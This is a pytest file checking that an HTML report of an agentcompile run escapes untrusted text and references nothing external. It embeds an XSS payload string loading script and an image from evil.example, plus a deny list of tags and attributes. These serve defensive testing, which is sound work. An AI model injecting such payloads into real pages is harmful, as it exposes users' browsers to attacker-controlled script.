"""A run as one HTML page: all that it holds is there, nothing outside it is named, no text becomes markup."""

from __future__ import annotations

import html
import io
import itertools
import json
import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest
from reviewed import EVENTS
from runs import KERNEL, REGION, WHOLE

from agentcompile.cli import reporting
from agentcompile.cli.render import Screen
from agentcompile.errors import AgentCompileError, ExitCode
from agentcompile.events import AdviceTaken, Event, TrialFinished, Warned
from agentcompile.ir.advice import Advice, Claim
from agentcompile.ir.codec import encode
from agentcompile.ir.search_events import SearchProgress
from agentcompile.ir.trial import Crashed, Trial
from agentcompile.options import resolve
from agentcompile.runs.losses import why_lost
from agentcompile.runs.session import Journal, RunDirectory

EVIL = "</pre><script src=//evil.example/x.js></script><img src=http://evil.example/i.png>"
ADVICE = Advice(
    label="a-model",
    meaning=f"a product {EVIL}",
    claims=(Claim(says="computes", topic="semantic", value="linear", standing="confirmed", because="it does"),),
)
STEPS = [SearchProgress(elapsed_s=s, step_ns=ns, candidates=1, rounds=1) for s, ns in ((1, 4_000_000), (9, 3_000_000))]


class Tags(HTMLParser):
    """The tags and the attributes of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


def recorded(*events: Event) -> RunDirectory:
    run = RunDirectory.create(
        resolve().options.runs / "20260101-000000-sample", encode(resolve({"model": "sample"}).options)
    )
    with Journal(run, clock=itertools.count(1000.0).__next__) as journal:
        for event in events:
            journal.append(event)
    return run


def written(tmp_path: Path) -> str:
    screen = Screen(out=io.StringIO(), err=io.StringIO(), format="json")
    assert reporting.report({}, "latest", tmp_path / "a.html", screen=screen) == 0
    assert isinstance(screen.out, io.StringIO)
    text = (tmp_path / "a.html").read_text(encoding="utf-8")
    assert json.loads(screen.out.getvalue())["bytes"] == len(text.encode())
    return text


@pytest.fixture
def page(tmp_path: Path) -> str:
    """The page of a run with advice, progress and a source, of which each says evil things."""
    source = replace(KERNEL, source="ab" * 16)
    events = [replace(one, choice=source) if one.kind == "choice-made" else one for one in WHOLE]
    recorded(
        *events[:7],
        AdviceTaken(region=REGION, exchange="e" * 64, advice=ADVICE),
        *STEPS,
        *events[7:],
        Warned(text=EVIL),
    )
    store = resolve().options.store / "ab"
    store.mkdir(parents=True)
    (store / f"{'ab' * 16}.source").write_text(f"// a kernel {EVIL}\nint main() {{}}\n")
    return written(tmp_path)


def test_the_page_holds_plots_tables_sources_and_advice(page: str) -> None:
    assert page.count("<svg") == 3, "times of regions, the best step, candidates of one region"
    for said in ("sample: done", "2 trials: 2 measured", "runs linear/rows(ROWS=4): 1.65×", "int main() {}",
                 "a-model says: a product", "computes linear", "confirmed", "Whole model beside transformers",
                 "2.46× (", "88 operators", "x.lock.toml"):  # fmt: skip
        assert said in page, said


def test_nothing_outside_the_page_is_named_and_no_text_becomes_markup(page: str) -> None:
    found = Tags()
    found.feed(page)
    assert not {"script", "img", "link", "iframe", "object", "a", "image", "use", "foreignobject"} & set(found.tags)
    assert not {"src", "href", "xlink:href", "data", "action", "srcset", "style"} & {
        name for name, _ in found.attributes
    }
    assert not [name for name, _ in found.attributes if name.startswith("on")]
    assert ("content", "default-src 'none'; style-src 'unsafe-inline'") in found.attributes
    assert [value for _, value in found.attributes if "//" in value] == []
    style = page[page.index("<style>") : page.index("</style>")]
    assert not re.search(r"url\(|@import|https?:", style)
    assert page.count("evil.example") == 6, "the evil texts are shown: advice, warning, source"


def test_a_source_that_the_store_lost_is_said_to_be_missing_and_a_run_in_review_has_a_page(tmp_path: Path) -> None:
    recorded(*EVENTS)
    text = written(tmp_path)
    assert "waiting for review" in text
    assert "The store on this machine does not have it." in text
    assert text == written(tmp_path), "the same run gives the same bytes"


def test_a_run_that_has_hardly_begun_has_a_page_and_a_wrong_place_is_an_error(tmp_path: Path) -> None:
    recorded(*WHOLE[:2])
    assert "interrupted" in written(tmp_path)
    screen = Screen(out=io.StringIO(), err=io.StringIO())
    with pytest.raises(AgentCompileError) as caught:
        reporting.report({}, "latest", tmp_path / "gone" / "a.html", screen=screen)
    assert caught.value.exit_code is ExitCode.ENVIRONMENT


def test_the_page_says_of_every_candidate_why_it_lost(tmp_path: Path) -> None:
    other = replace(KERNEL.candidate, params=(("ROWS", 9),))
    crashed = Trial(candidate=other, source="", verdict=Crashed(stage="measure", signal=11))
    recorded(*WHOLE[:7], TrialFinished(trial=crashed), *WHOLE[7:])
    text = written(tmp_path)
    state = RunDirectory(resolve().options.runs / "20260101-000000-sample").state()
    reasons = [reason for trial in state.trials if (reason := why_lost(state, trial))]
    assert "<th>why it lost</th>" in text
    assert any("it crashed" in reason for reason in reasons)
    assert all(html.escape(reason) in text for reason in reasons)
